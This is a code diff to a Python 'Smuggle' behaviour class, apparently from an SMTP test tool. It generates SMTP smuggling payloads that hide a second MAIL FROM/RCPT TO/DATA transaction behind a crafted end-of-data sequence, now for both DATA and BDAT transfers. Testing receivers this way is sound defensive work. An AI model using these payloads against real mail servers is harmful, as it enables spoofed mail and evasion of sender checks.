@@ -43,7 +43,8 @@ class How(StrEnum):
 class Smuggle(Behaviour):
     """Put something that is not the end of a message where a careless receiver sees the end: a second transaction behind it
     within the message, or nothing in place of the true end. A good receiver takes one message with bare line ends in it, or
-    refuses it (RFC 5321 section 2.3.8). BDAT has no end to play with: list drop-chunking beside it.
+    refuses it (RFC 5321 section 2.3.8). By BDAT it is bait for whoever goes on by DATA: counted, the receiver itself sees no
+    end in it (RFC 3030 section 2), and `how: end` only puts the sequence behind the content.
     """
 
     name = "smuggle"
@@ -67,12 +68,17 @@ class Smuggle(Behaviour):
     settings: Settings
 
     def on_dotted(self, content: bytes) -> bytes:
+        return self._smuggled(content.removesuffix(b".\r\n"), end=b".\r\n")
+
+    def on_counted(self, content: bytes) -> bytes:
+        return self._smuggled(content, end=b"")
+
+    def _smuggled(self, body: bytes, *, end: bytes) -> bytes:
         settings, sequence = self.settings, SEQUENCES[self.settings.variant]
-        body = content.removesuffix(b".\r\n")
         if settings.how is How.END:
             return body.removesuffix(b"\r\n") + sequence
         smuggled = (
             f"MAIL FROM:<{settings.sender}>\r\nRCPT TO:<{settings.recipient}>\r\nDATA\r\n"
-            f"From: <{settings.sender}>\r\nTo: <{settings.recipient}>\r\nSubject: {settings.text}\r\n\r\n{settings.text}\r\n.\r\n"
+            f"From: <{settings.sender}>\r\nTo: <{settings.recipient}>\r\nSubject: {settings.text}\r\n\r\n{settings.text}\r\n"
         )
-        return body.removesuffix(b"\r\n") + sequence + smuggled.encode("utf-8", "surrogateescape")
+        return body.removesuffix(b"\r\n") + sequence + smuggled.encode("utf-8", "surrogateescape") + end
